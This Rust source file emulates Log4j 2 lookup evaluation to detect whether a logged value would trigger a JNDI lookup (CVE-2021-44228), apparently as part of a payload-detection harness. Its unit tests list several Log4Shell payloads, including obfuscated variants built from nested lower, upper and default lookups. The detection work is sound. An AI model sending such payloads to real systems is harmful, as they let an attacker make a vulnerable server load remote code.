//! The Log4j twin: a logger that evaluates Log4j 2 lookups in logged
//! values (CVE-2021-44228). Lookups nest and are evaluated innermost first;
//! `lower`, `upper`, `env`, `sys`, `date` and the `:-` default syntax are
//! emulated. Exploited when a `jndi` lookup is evaluated.

use crate::{Family, Outcome};

/// Evaluates lookups; `Err(uri)` when a JNDI lookup would run.
fn eval(s: &str, depth: u8) -> Result<String, String> {
    let mut out = String::new();
    let mut i = 0;
    let b = s.as_bytes();
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
            // Find the matching brace.
            let mut level = 0;
            let mut j = i + 1;
            let mut end = None;
            while j < b.len() {
                match b[j] {
                    b'{' => level += 1,
                    b'}' => {
                        level -= 1;
                        if level == 0 {
                            end = Some(j);
                            break;
                        }
                    }
                    _ => {}
                }
                j += 1;
            }
            let Some(end) = end else {
                out.push_str(&s[i..]);
                break;
            };
            let inner = if depth < 8 {
                eval(&s[i + 2..end], depth + 1)?
            } else {
                s[i + 2..end].to_string()
            };
            out.push_str(&lookup(&inner)?);
            i = end + 1;
        } else {
            let ch = s[i..].chars().next().unwrap_or('\u{fffd}');
            out.push(ch);
            i += ch.len_utf8();
        }
    }
    Ok(out)
}

/// One lookup's value (its text already evaluated).
fn lookup(expr: &str) -> Result<String, String> {
    let (body, default) = match expr.find(":-") {
        Some(k) => (&expr[..k], Some(&expr[k + 2..])),
        None => (expr, None),
    };
    let (prefix, key) = body.split_once(':').unwrap_or(("", body));
    let value = match prefix.to_ascii_lowercase().as_str() {
        "jndi" => return Err(key.to_string()),
        "lower" => Some(key.to_lowercase()),
        "upper" => Some(key.to_uppercase()),
        "date" => Some("2026-01-01".to_string()),
        "env" | "sys" | "ctx" | "main" | "bundle" | "map" | "sd" | "" => None,
        _ => None,
    };
    Ok(value
        .or_else(|| default.map(str::to_string))
        .unwrap_or_else(|| format!("${{{expr}}}")))
}

/// Logs an (already URL-decoded) payload.
pub fn run(payload: &str) -> Option<Outcome> {
    if !payload.contains("${") || payload.len() > 8192 {
        return None;
    }
    match eval(payload, 0) {
        Err(uri) => Some(Outcome {
            family: Family::Command,
            context: "logged-value",
            evidence: format!("the logger performs a JNDI lookup of {uri}"),
        }),
        Ok(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn obfuscated_lookups_resolve() {
        for p in [
            "${jndi:ldap://198.51.100.1:1389/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
            "${j${upper:n}di:dns://x/a}",
        ] {
            assert!(run(p).is_some(), "{p}");
        }
        for p in ["${user}", "cost ${price}", "${lower:JNDI}", "plain"] {
            assert!(run(p).is_none(), "{p}");
        }
    }
}
